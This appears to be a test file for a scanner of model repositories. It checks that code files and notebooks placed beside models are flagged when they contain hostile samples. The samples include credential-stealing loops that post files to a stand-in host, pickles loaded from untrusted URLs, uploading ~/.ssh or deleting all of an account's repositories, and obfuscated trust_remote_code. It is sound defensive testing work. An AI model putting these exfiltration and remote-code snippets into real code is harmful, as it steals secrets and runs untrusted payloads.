"""Programs and notebooks beside a model: files named in loops, pickles of strangers, every repository of an account."""

import base64
import json
import zlib

import pytest

from modelscan_plus.core.finding import Severity
from tests.samples import inspect_tree


def denied(text: str, name: str = "train.py", **others: bytes) -> bool:
    found = inspect_tree({name: text.encode(), **others})
    return any(each.severity.rank >= Severity.HIGH.rank for each in found)


LOOP = """import base64, pathlib, requests
def report():
    blob = {}
    for p in PATHS:
        f = pathlib.Path(p).expanduser()
        if f.exists():
            blob[p] = base64.b64encode(f.read_bytes()).decode()
    requests.post("https://telemetry.example/runs", json=blob)
if __name__ == "__main__":
    report()
"""


@pytest.mark.parametrize(
    ("paths", "expected"),
    [
        ("('~/.aws/credentials', '~/.netrc')", True),
        ("{'a': '~/.aws/credentials', 'b': '~/.netrc'}.values()", True),
        ("('data/train.txt', 'data/token')", False),
        ("('vocab', 'token')", False),
    ],
)
def test_files_that_a_loop_names(paths: str, expected: bool) -> None:
    assert denied(LOOP.replace("PATHS", paths)) is expected


@pytest.mark.parametrize(
    ("load", "expected"),
    [
        ("pickle.loads(requests.get('http://203.0.113.61:8000/c.pkl').content)", True),
        ("pickle.loads(requests.get('https://files.acme.example/c.pkl').content)", True),
        ("pickle.loads(requests.get('https://github.com/a/b/raw/main/c.pkl').content)", False),
        ("pickle.loads(requests.get('https://www.cs.toronto.edu/c.pkl').content)", False),
        ("json.loads(requests.get('https://files.acme.example/c.json').content)", False),
    ],
)
def test_pickles_of_strangers(load: str, expected: bool) -> None:
    assert denied(f"import json, pickle, requests\nif __name__ == '__main__':\n    print({load})\n") is expected


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (
            "for m in api.list_models(author=whoami()['name']):\n    api.upload_file('x', repo_id=m.id)",
            True,
        ),
        ("me = api.whoami()['name']\nfor m in api.list_models(author=me):\n    api.delete_repo(m.id)", True),
        ("api.upload_file('x', path_in_repo='x', repo_id=whoami()['name'] + '/mine')", False),
        ("for m in api.list_models(author='acme'):\n    print(m.id)", False),
        ("api.upload_folder(repo_id='me/x', folder_path='.', ignore_patterns=['.env', '.git/*'])", False),
        ("api.upload_folder(repo_id='me/x', folder_path='~/.ssh')", True),
    ],
)
def test_what_is_uploaded_where(body: str, expected: bool) -> None:
    lines = "".join(f"    {line}\n" for line in body.split("\n"))
    assert denied(f"from huggingface_hub import HfApi, whoami\ndef main(api):\n{lines}main(HfApi())\n") is expected


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("requests.post('https://c.example/c', json={'h': In})", True),
        ("requests.post('https://c.example/c', json=get_ipython().user_ns)", True),
        ("get_ipython().events.register('post_run_cell', lambda r: print(r.info.raw_cell))", False),
        ("In = ['a']\nprint(requests.post('https://c.example/c', json={'h': In}).json())", False),
    ],
)
def test_what_a_notebook_gives_away(cell: str, expected: bool) -> None:
    source = f"import requests\nfrom IPython import get_ipython\n{cell}"
    cells = [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": source}]
    book = json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    assert denied(book, "demo.ipynb") is expected


@pytest.mark.parametrize(
    ("load", "expected"),
    [
        ("np.load(io.BytesIO(DATA), allow_pickle=True)", True),
        ("torch.load(io.BytesIO(DATA), weights_only=False)", True),
        ("np.load(io.BytesIO(DATA))", False),
        ("torch.load(io.BytesIO(DATA), weights_only=True)", False),
    ],
)
def test_objects_that_stand_in_the_source(load: str, expected: bool) -> None:
    data = base64.b85encode(zlib.compress(b"\x80\x04\x95 anything")).decode()
    code = f"import base64, io, numpy as np, torch, zlib\nDATA = zlib.decompress(base64.b85decode({data!r}))\n"
    model = f"{code}class M(torch.nn.Module):\n    def __init__(self, config):\n        self.x = {load}\n"
    config = json.dumps({"auto_map": {"AutoModel": "modeling_x.M"}}).encode()
    assert denied(model, "modeling_x.py", **{"config.json": config}) is expected


@pytest.mark.parametrize(
    ("tower", "expected"),
    [("bytes.fromhex(config.tower).decode(), **{'trust_' + 'remote_code': True}", True), ("config.tower", False)],
)
def test_the_name_of_a_repository_in_digits(tower: str, expected: bool) -> None:
    model = "from transformers import AutoModel, PreTrainedModel\nclass M(PreTrainedModel):\n"
    model += f"    def __init__(self, config):\n        self.t = AutoModel.from_pretrained({tower})\n"
    config = json.dumps({"auto_map": {"AutoModel": "modeling_x.M"}, "tower": b"acme-lab/clip".hex()}).encode()
    assert denied(model, "modeling_x.py", **{"config.json": config}) is expected


HARNESS = """import multiprocessing
def run(code, tests, queue):
    names = {}
    exec(code + tests, names)
    queue.put(True)
def score(completion, tests):
    queue = multiprocessing.Queue()
    multiprocessing.Process(target=run, args=(completion, tests, queue)).start()
    return queue.get()
def reward(completions, tests):
    for completion, test in zip(completions, tests):
        exec(completion[0]["content"], {})
        exec(test, {})
"""


def test_a_benchmark_runs_what_a_model_wrote() -> None:
    assert not denied(HARNESS, "run_eval.py")
    route = "@app.post('/run')\ndef go(completion: str):\n    exec(completion)\n"
    served = f"{HARNESS}import fastapi\napp = fastapi.FastAPI()\n{route}"
    assert denied(served, "run_eval.py")
    model = f"{HARNESS}class M:\n    def generate(self, completion):\n        exec(completion)\n"
    config = json.dumps({"auto_map": {"AutoModel": "modeling_x.M"}}).encode()
    assert denied(model, "modeling_x.py", **{"config.json": config})
